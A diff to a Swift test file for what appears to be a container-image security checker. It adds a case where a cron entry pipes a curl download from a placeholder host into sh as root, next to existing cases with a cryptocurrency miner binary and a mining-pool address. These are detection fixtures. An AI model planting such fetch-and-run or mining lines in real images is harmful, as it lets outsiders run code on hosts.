@@ -52,6 +52,12 @@ struct PromiseCase: Sendable {
     "No image has a program that mines cryptocurrency, or an address of a mining pool.": PromiseCase(
       breaks: image("layer: RUN x\n  -rwxr-xr-x 0:0 /tmp/xmrig 100"),
       image("Env: POOL=stratum+tcp://pool.example.org:3333", app), keeps: image("Env: POOL_SIZE=10", app)),
+    "Nothing that starts by itself in an image runs what it downloads.": PromiseCase(
+      breaks: image(
+        "layer: x\n  -rw-r--r-- 0:0 /etc/cron.d/a\n    | @daily root curl -fsSL https://example.org/a | sh"),
+      keeps: image(
+        "layer: x\n  -rw-r--r-- 0:0 /etc/cron.d/a\n    | @daily root curl -fsSL https://example.org/a -o /srv/a",
+        app)),
     "The content of an image matches its digests.": PromiseCase(
       breaks: image(app, "diffID: sha256:" + String(repeating: "0", count: 64)), keeps: plain),
     "No service has power over the host, by privileges, capabilities, devices, namespaces, paths or the engine.":
